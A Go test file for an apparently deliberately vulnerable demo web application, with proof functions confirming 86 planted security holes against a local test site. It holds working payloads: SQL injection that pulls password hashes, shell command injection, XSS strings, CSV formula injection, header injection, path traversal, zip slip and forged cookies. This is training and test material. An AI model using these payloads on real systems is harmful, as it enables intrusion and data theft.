package holes_test

import (
	"archive/zip"
	"bytes"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/merlon-web/merlon/examples/leaky/holes"
	"github.com/merlon-web/merlon/examples/leaky/site"
)

const script = "<script>alert(1)</script>"

// proofs show each hole on a fresh site: true when the exploit worked.
var proofs = map[string]func(k *kit) bool{
	"L01": func(k *kit) bool {
		b := k.as(3)
		return k.count("SELECT count(*) FROM sessions WHERE id = ?", b.cookies["sid"]) == 1
	},
	"L02": func(k *kit) bool {
		b := k.browser()
		b.cookies["sid"] = "chosen-by-the-attacker"
		b.post("/login", "email", site.Users[2].Email, "password", site.Users[2].Password)
		attacker := k.browser()
		attacker.cookies["sid"] = "chosen-by-the-attacker"
		return strings.Contains(attacker.get("/profile/").text, "anna@club.example")
	},
	"L03": func(k *kit) bool {
		b := k.as(3)
		sid := b.cookies["sid"]
		b.post("/logout")
		b.cookies["sid"] = sid
		return strings.Contains(b.get("/profile/").text, "anna@club.example")
	},
	"L04": func(k *kit) bool {
		thief, owner := k.as(3), k.as(3)
		a := owner.form("/profile/", "/profile/password", "old", site.Users[2].Password, "password", "another password of hers")
		return a.Code == 303 && thief.get("/profile/").Code == 200
	},
	"L05": func(k *kit) bool {
		ben := k.as(4)
		k.as(1).form("/admin", "/admin/users/4/block")
		return k.count("SELECT blocked FROM users WHERE id = 4") == 1 && ben.get("/profile/").Code == 200
	},
	"L06": func(k *kit) bool {
		a := k.browser().post("/login", "email", site.Users[2].Email, "password", site.Users[2].Password)
		c := a.Result().Cookies()[0]
		return c.Name == "sid" && !c.Secure && c.SameSite == 0
	},
	"L07": func(k *kit) bool {
		a := k.browser().post("/login", "email", site.Users[2].Email, "password", site.Users[2].Password, "remember", "1")
		return slices.ContainsFunc(a.Result().Cookies(), func(c *http.Cookie) bool { return c.Name == "remember" && !c.HttpOnly && !c.Secure && c.SameSite == 0 })
	},
	"L08": func(k *kit) bool {
		b := k.browser()
		b.cookies["remember"] = base64.URLEncoding.EncodeToString(fmt.Appendf(nil, "1:%x", sha1.Sum([]byte("olga@club.example"))))
		return b.get("/admin").Code == 200
	},
	"L09": func(k *kit) bool {
		k.browser().post("/login", "email", "anna@club.example", "password", "almost right 1")
		return strings.Contains(k.log.String(), "almost right 1")
	},
	"L10": func(k *kit) bool {
		return k.text("SELECT hash FROM users WHERE id = 3") == fmt.Sprintf("%x", sha256.Sum256([]byte(site.Users[2].Password)))
	},
	"L11": func(k *kit) bool {
		k.browser().get("/contact")
		return k.count("SELECT count(*) FROM sessions") == 1
	},
	"L12": func(k *kit) bool {
		b := k.as(3)
		b.get("/logout", "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Dest", "image")
		return b.cookies["sid"] == ""
	},
	"L13": func(k *kit) bool {
		k.as(3).post("/news/1/comment", "body", "forged")
		return k.count("SELECT count(*) FROM comments WHERE body = 'forged'") == 1
	},
	"L14": func(k *kit) bool {
		k.as(2).get("/news/1/delete")
		return k.count("SELECT count(*) FROM news WHERE id = 1") == 0
	},
	"L15": func(k *kit) bool {
		k.as(3).post("/profile/edit", "name", "Forged")
		return k.text("SELECT name FROM users WHERE id = 3") == "Forged"
	},
	"L16": func(k *kit) bool {
		stolen := k.as(4).token("/profile/")
		k.as(3).post("/events/1/book", "places", "4", "token", stolen)
		return k.count("SELECT count(*) FROM bookings WHERE places = 4") == 1
	},
	"L17": func(k *kit) bool {
		k.as(3).get("/events/1?_method=DELETE")
		return k.count("SELECT count(*) FROM events WHERE id = 1") == 0
	},
	"L18": func(k *kit) bool {
		k.as(3).post("/events/1", "_method", "DELETE")
		return k.count("SELECT count(*) FROM events WHERE id = 1") == 0
	},
	"L19": func(k *kit) bool {
		k.as(3).send("POST", "/messages", "application/x-www-form-urlencoded", strings.NewReader("to=4&subject=forged"), "Referer", "http://club.example.evil.example/")
		return k.count("SELECT count(*) FROM messages WHERE subject = 'forged'") == 1
	},
	"L20": func(k *kit) bool {
		k.as(3).send("POST", "/api/news/1/like", "text/plain", strings.NewReader(`{"up":true,"x":"="}`), "Origin", "https://evil.example")
		return k.count("SELECT likes FROM news WHERE id = 1") == 1
	},
	"L21": func(k *kit) bool {
		b := k.browser()
		b.post("/login", "email", site.Users[3].Email, "password", site.Users[3].Password)
		return strings.Contains(b.get("/profile/").text, "ben@club.example")
	},
	"L22": func(k *kit) bool {
		a := k.as(3).get("/api/me", "Origin", "https://evil.example")
		return a.header("Access-Control-Allow-Origin") == "https://evil.example" && a.header("Access-Control-Allow-Credentials") == "true" && strings.Contains(a.text, "anna@")
	},
	"L23": func(k *kit) bool {
		a := k.browser().get("/search?q=" + url.QueryEscape("zz%') UNION SELECT email, hash FROM users --"))
		return strings.Contains(a.text, k.text("SELECT hash FROM users WHERE id = 1"))
	},
	"L24": func(k *kit) bool {
		b := k.as(3)
		ask := func(guess string) string {
			return b.get("/members?sort=" + url.QueryEscape("(CASE WHEN (SELECT hash FROM users WHERE id = 1) LIKE '"+guess+"%' THEN id ELSE -id END)")).text
		}
		return ask(k.text("SELECT substr(hash, 1, 4) FROM users WHERE id = 1")) != ask("zzzz")
	},
	"L25": func(k *kit) bool {
		k.as(1).form("/admin", "/admin/bookings/remove", "booking", "0) OR (1=1")
		return k.count("SELECT count(*) FROM bookings") == 0
	},
	"L26": func(k *kit) bool {
		b := k.browser()
		b.send("POST", "/api/login", "application/json", strings.NewReader(`{"email":"olga@club.example' --","password":""}`))
		return b.get("/admin").Code == 200
	},
	"L27": func(k *kit) bool {
		b := k.as(3)
		b.post("/profile/edit", "name", "x' UNION SELECT email, hash FROM users --")
		return strings.Contains(b.get("/profile/posts").text, k.text("SELECT hash FROM users WHERE id = 1"))
	},
	"L28": func(k *kit) bool {
		return strings.Contains(k.as(3).get("/files/info?name="+url.QueryEscape("x; echo $((6*7000))")).text, "42000")
	},
	"L29": func(k *kit) bool {
		return strings.Contains(k.browser().get("/handbook/find?q=--version").text, "grep")
	},
	"L30": func(k *kit) bool {
		k.browser().form("/contact", "/contact", "subject", "Hi\r\nBcc: all@victims.example", "body", "x")
		return strings.Contains(k.mails[0], "\r\nBcc: all@victims.example\r\n")
	},
	"L31": func(k *kit) bool {
		k.browser().post("/login", "email", "x\nlocked: olga@club.example", "password", "x")
		return strings.Contains(k.log.String(), "\nlocked: olga@club.example")
	},
	"L32": func(k *kit) bool {
		b := k.as(3)
		b.post("/profile/edit", "name", "=cmd|' /C calc'!A0")
		return strings.Contains(k.as(1).get("/admin/members.csv").text, "\n=cmd|' /C calc'!A0,")
	},
	"L33": func(k *kit) bool {
		a := k.as(2).form("/admin/news/new", "/admin/newsletter", "text", "{{.Hash}}")
		return strings.Contains(a.text, k.text("SELECT hash FROM users WHERE id = 1"))
	},
	"L34": func(k *kit) bool {
		return strings.Contains(k.browser().get("/search?q="+url.QueryEscape(script)).text, script)
	},
	"L35": func(k *kit) bool {
		k.as(3).post("/news/1/comment", "body", "<img src=x onerror=alert(1)>")
		return strings.Contains(k.browser().get("/news/1").text, "<img src=x onerror=alert(1)>")
	},
	"L36": func(k *kit) bool {
		a := k.as(3).form("/events/new", "/events/new", "title", script, "day", "2026-07-01")
		return strings.Contains(k.browser().get(a.header("Location")+"/print").text, script)
	},
	"L37": func(k *kit) bool {
		b := k.as(3)
		b.post("/profile/edit", "name", "Anna", "website", "javascript:alert(1)")
		return strings.Contains(b.get("/members/3").text, `href="javascript:alert`)
	},
	"L38": func(k *kit) bool {
		b := k.as(3)
		b.post("/profile/edit", "name", "Anna", "bio", script)
		return strings.Contains(b.get("/members/3").text, `srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"`)
	},
	"L39": func(k *kit) bool { return strings.Contains(k.browser().get("/"+url.PathEscape(script)).text, script) },
	"L40": func(k *kit) bool {
		return strings.Contains(k.as(3).post("/news/preview", "body", script).text, script)
	},
	"L41": func(k *kit) bool {
		a := k.browser().get("/api/suggest?q=" + url.QueryEscape(script))
		return strings.HasPrefix(a.header("Content-Type"), "text/html") && strings.Contains(a.text, script)
	},
	"L42": func(k *kit) bool {
		a := k.browser().post("/login", "email", site.Users[2].Email, "password", site.Users[2].Password, "next", "//evil.example/")
		return a.header("Location") == "//evil.example/"
	},
	"L43": func(k *kit) bool {
		to := "https://evil.example/?club.example"
		return k.browser().get("/out?to="+url.QueryEscape(to)).header("Location") == to
	},
	"L44": func(k *kit) bool {
		a := k.as(3).get("/profile/")
		return a.header("X-Frame-Options") == "" && !strings.Contains(a.header("Content-Security-Policy"), "frame-ancestors")
	},
	"L45": func(k *kit) bool { return k.browser().get("/").header("Content-Security-Policy") == "" },
	"L46": func(k *kit) bool { return k.browser().get("/").header("X-Content-Type-Options") == "" },
	"L47": func(k *kit) bool { return strings.HasPrefix(k.as(3).get("/members").header("Cache-Control"), "public") },
	"L48": func(k *kit) bool { return strings.Contains(k.as(3).get("/profile/x.css").text, "anna@club.example") },
	"L49": func(k *kit) bool { return strings.Contains(k.browser().get("/search?q=%27)").text, "SQL logic error") },
	"L50": func(k *kit) bool {
		k.as(3).upload("/files", "/files", "file", "x.html", []byte(script))
		a := k.browser().get("/files/x.html")
		return strings.HasPrefix(a.header("Content-Type"), "text/html") && a.text == script && a.header("Content-Disposition") == ""
	},
	"L51": func(k *kit) bool {
		return strings.Contains(k.as(3).get("/admin/members.csv").text, "olga@club.example")
	},
	"L52": func(k *kit) bool { return strings.Contains(k.as(5).get("/messages/1").text, "third stone") },
	"L53": func(k *kit) bool {
		k.as(4).form("/profile/", "/comments/1/edit", "body", "I bring nothing.")
		return k.text("SELECT body FROM comments WHERE id = 1") == "I bring nothing."
	},
	"L54": func(k *kit) bool {
		b := k.as(3)
		b.send("PUT", "/api/me", "application/json", strings.NewReader(`{"Role":"admin"}`))
		return b.get("/admin").Code == 200
	},
	"L55": func(k *kit) bool {
		return strings.Contains(k.as(3).get("/api/members").text, k.text("SELECT hash FROM users WHERE id = 1"))
	},
	"L56": func(k *kit) bool {
		b := k.browser()
		b.form("/forgot", "/forgot", "email", "anna@club.example")
		code := k.text("SELECT code FROM resets")
		first := b.form("/reset", "/reset", "code", code, "password", "a first new password")
		second := b.form("/reset", "/reset", "code", code, "password", "a second new password")
		return first.Code == 303 && second.Code == 303
	},
	"L57": func(k *kit) bool {
		b := k.browser()
		body := pairs([]string{"email", "anna@club.example", "token", b.token("/forgot")})
		b.send("POST", "/forgot", "application/x-www-form-urlencoded", strings.NewReader(body), "Host", "evil.example")
		return strings.Contains(k.mails[0], "http://evil.example/reset?code=")
	},
	"L58": func(k *kit) bool {
		b := k.as(3)
		return b.get("/admin/news/new").Code == 403 && b.form("/profile/", "/admin/news/new", "title", "Not news").Code == 303
	},
	"L59": func(k *kit) bool {
		k.as(3).form("/profile/", "/profile/email", "email", "mallory@evil.example")
		return k.text("SELECT email FROM users WHERE id = 3") == "mallory@evil.example"
	},
	"L60": func(k *kit) bool {
		b := k.browser()
		return !strings.Contains(b.get("/news?per=100").text, "Budget") && strings.Contains(b.get("/news/3").text, "the fee rises")
	},
	"L61": func(k *kit) bool {
		b := k.browser()
		b.form("/forgot", "/forgot", "email", "anna@club.example")
		for range 30 {
			b.form("/reset", "/reset", "code", "wrong!", "password", "a password of mine")
		}
		return b.form("/reset", "/reset", "code", k.text("SELECT code FROM resets"), "password", "a password of mine").Code == 303
	},
	"L62": func(k *kit) bool {
		b := k.as(3)
		for range 30 {
			b.form("/profile/", "/profile/password", "old", "wrong", "password", "a password of mine")
		}
		return b.form("/profile/", "/profile/password", "old", site.Users[2].Password, "password", "a password of mine").Code == 303
	},
	"L63": func(k *kit) bool {
		b := k.browser()
		for n := range 30 {
			from := fmt.Sprintf("192.0.2.%d", n)
			if b.send("POST", "/api/login", "application/json", strings.NewReader(`{"email":"anna@club.example","password":"x"}`), "X-Forwarded-For", from).Code == 429 {
				return false
			}
		}
		return b.get("/debug/stats").Code == 403 && b.get("/debug/stats", "X-Forwarded-For", "127.0.0.1").Code == 200
	},
	"L64": func(k *kit) bool {
		b := k.browser()
		return b.form("/forgot", "/forgot", "email", "nobody@club.example").Code == 404 && b.form("/forgot", "/forgot", "email", "anna@club.example").Code == 200
	},
	"L65": func(k *kit) bool {
		b := k.browser()
		known := b.form("/signup", "/signup", "name", "X", "email", "anna@club.example", "password", "a password of mine")
		return strings.Contains(known.text, "already an account") && b.form("/signup", "/signup", "name", "X", "email", "new@club.example", "password", "a password of mine").Code == 303
	},
	"L66": func(k *kit) bool {
		b := k.browser()
		for range 10 {
			b.post("/login", "email", "anna@club.example", "password", "wrong")
		}
		return b.post("/login", "email", "anna@club.example", "password", site.Users[2].Password).Code == 401
	},
	"L67": func(k *kit) bool {
		a := k.as(3).send("PUT", "/api/me", "application/json", strings.NewReader(`{"Bio":"`+strings.Repeat("x", 4<<20)+`"}`))
		return a.Code == 200 && k.count("SELECT length(bio) FROM users WHERE id = 3") == 4<<20
	},
	"L68": func(k *kit) bool {
		return k.as(3).upload("/files", "/files", "file", "big.exe", make([]byte, 12<<20)).Code == 303
	},
	"L69": func(k *kit) bool {
		data := archive(k.t, "bomb.png", make([]byte, 20<<20))
		return len(data) < 40<<10 && k.as(2).upload("/files", "/admin/gallery", "archive", "p.zip", data).Code == 303
	},
	"L70": func(k *kit) bool {
		for n := range 300 {
			if _, err := k.s.DB().Exec("INSERT INTO news (title, body) VALUES (?, '')", fmt.Sprint("row ", n)); err != nil {
				k.t.Fatal(err)
			}
		}
		return strings.Count(k.browser().get("/news?per=1000000").text, "<li>") > 300
	},
	"L71": func(k *kit) bool {
		b := k.as(3)
		token := b.token("/events/1")
		b.post("/events/1/book", "places", "4", "token", token)
		b.post("/events/1/book", "places", "4", "token", token)
		return k.count("SELECT count(*) FROM bookings WHERE places = 4") == 2
	},
	"L72": func(k *kit) bool {
		a := k.as(3).form("/events/new", "/events/new", "title", "Half", "day", "2026-07-01", "invite", "4 999")
		return a.Code == 422 && k.count("SELECT count(*) FROM events WHERE title = 'Half'") == 1
	},
	"L73": func(k *kit) bool {
		b := k.as(3)
		return strings.Contains(b.send("TRACE", "/debug/request", "", nil).text, b.cookies["sid"])
	},
	"L74": func(k *kit) bool { return strings.Contains(k.browser().get("/debug/pprof/").text, "goroutine") },
	"L75": func(k *kit) bool {
		b := k.browser()
		return strings.Contains(b.get("/static/old/").text, "members-2024.csv") && strings.Contains(b.get("/static/old/members-2024.csv").text, "0151")
	},
	"L76": func(k *kit) bool {
		inner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("inner secret")) }))
		defer inner.Close()
		b := k.as(3)
		b.form("/profile/", "/profile/picture", "address", inner.URL)
		return b.get("/pictures/3").text == "inner secret"
	},
	"L77": func(k *kit) bool {
		return strings.Contains(k.as(3).get("/download?name=../settings.conf").text, "smtp_password")
	},
	"L78": func(k *kit) bool {
		k.as(2).upload("/files", "/admin/gallery", "archive", "p.zip", archive(k.t, "../uploads/evil.html", []byte(script)))
		return k.browser().get("/files/evil.html").text == script
	},

	"L79": func(k *kit) bool { return len(k.backup()) == 2 },
	"L80": func(k *kit) bool { return strings.Contains(string(k.backup()["index.txt"]), "ben@club.example") },
	"L81": func(k *kit) bool { k.backup(); return strings.Contains(k.restore()["club.db"], "ben@club.example") },
	"L82": func(k *kit) bool {
		for name, text := range k.backup() {
			if name != "index.txt" {
				os.Truncate(filepath.Join(k.s.Folder(), "backups", name), int64(len(text)/2))
			}
		}
		_, back := k.restore()["club.db"]
		return back
	},
	"L83": func(k *kit) bool {
		k.as(3).upload("/files", "/files", "file", "minutes.txt", []byte("the minutes of May"))
		k.backup()
		_, back := k.restore()["minutes.txt"]
		return !back
	},
	"L84": func(k *kit) bool { k.backup(); return time.Since(k.s.Rehearsed()) > 8*24*time.Hour },
	"L85": func(k *kit) bool {
		for name := range k.backup() {
			if k.s.DeleteBackup(name) != nil {
				return false
			}
		}
		left, err := os.ReadDir(filepath.Join(k.s.Folder(), "backups"))
		return err == nil && len(left) == 0
	},
	"L86": func(k *kit) bool {
		k.backup()
		return strings.Contains(k.browser().get("/backups/index.txt").text, "ben@club.example")
	},
}

// backup makes a copy and returns what lies in the folder then.
func (k *kit) backup() map[string][]byte {
	k.t.Helper()
	if err := k.s.Backup(); err != nil {
		k.t.Fatal(err)
	}
	all, err := filepath.Glob(filepath.Join(k.s.Folder(), "backups", "*"))
	if err != nil {
		k.t.Fatal(err)
	}
	lie := map[string][]byte{}
	for _, path := range all {
		if lie[filepath.Base(path)], err = os.ReadFile(path); err != nil {
			k.t.Fatal(err)
		}
	}
	return lie
}

// restore gets the newest copy back and returns the files, by their last names; nil when it was refused.
func (k *kit) restore() map[string]string {
	k.t.Helper()
	into := k.t.TempDir()
	if k.s.Restore(into) != nil {
		return nil
	}
	back := map[string]string{}
	err := filepath.WalkDir(into, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		back[d.Name()] = string(text)
		return err
	})
	if err != nil {
		k.t.Fatal(err)
	}
	return back
}

func archive(t *testing.T, name string, data []byte) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	f.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Every hole of the list is really there, each on a site of its own.
func TestPlanted(t *testing.T) {
	seen := make(map[string]bool)
	for _, h := range holes.Planted {
		if seen[h.ID] || len(h.Routes) == 0 || h.Class == "" || h.Mistake == "" || h.Wrong == "" || h.Exploit == "" {
			t.Errorf("%s is listed twice, or half", h.ID)
		}
		seen[h.ID] = true
		t.Run(h.ID, func(t *testing.T) {
			t.Parallel()
			proof := proofs[h.ID]
			if proof == nil {
				t.Fatal("no request shows it")
			}
			if !proof(open(t)) {
				t.Errorf("the exploit does not work: %s (%s)", h.Exploit, h.Wrong)
			}
		})
	}
	for id := range proofs {
		if !seen[id] {
			t.Errorf("%s is shown but not listed", id)
		}
	}
}
